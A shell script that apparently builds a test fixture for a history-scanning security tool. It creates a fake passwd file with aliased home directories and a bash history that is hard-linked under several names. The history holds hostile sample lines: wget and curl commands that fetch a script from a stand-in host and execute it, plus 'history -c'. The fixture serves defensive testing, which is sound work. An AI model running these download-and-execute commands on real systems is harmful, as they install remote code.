#!/bin/sh
# One shell history under many names (review finding 2): hard links under the five
# history names, and three accounts whose homes /x, /x/. and /x/./. are one directory.
# It must be read once, its suspicious lines reported once, a long line kept cut.
set -e
root=$1
mkdir -p "$root/etc" "$root/x" "$root/y" "$root/var/log"
cat >"$root/etc/passwd" <<'PW'
root:x:0:0:root:/root:/bin/bash
a:x:1001:1001::/x:/bin/bash
b:x:1002:1002::/x/.:/bin/bash
c:x:1003:1003::/x/./.:/bin/bash
d:x:1004:1004::/y:/bin/bash
PW
{
	echo 'ls -la'
	echo 'wget http://198.51.100.7/x.sh -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x'
	printf 'curl -s http://198.51.100.7/a.sh | sh #'
	head -c 10000 /dev/zero | tr '\0' 'A'
	echo
	echo 'history -c'
} >"$root/x/.bash_history"
for n in .zsh_history .ash_history .sh_history .history; do
	ln "$root/x/.bash_history" "$root/x/$n"
done
echo 'uptime' >"$root/y/.bash_history"
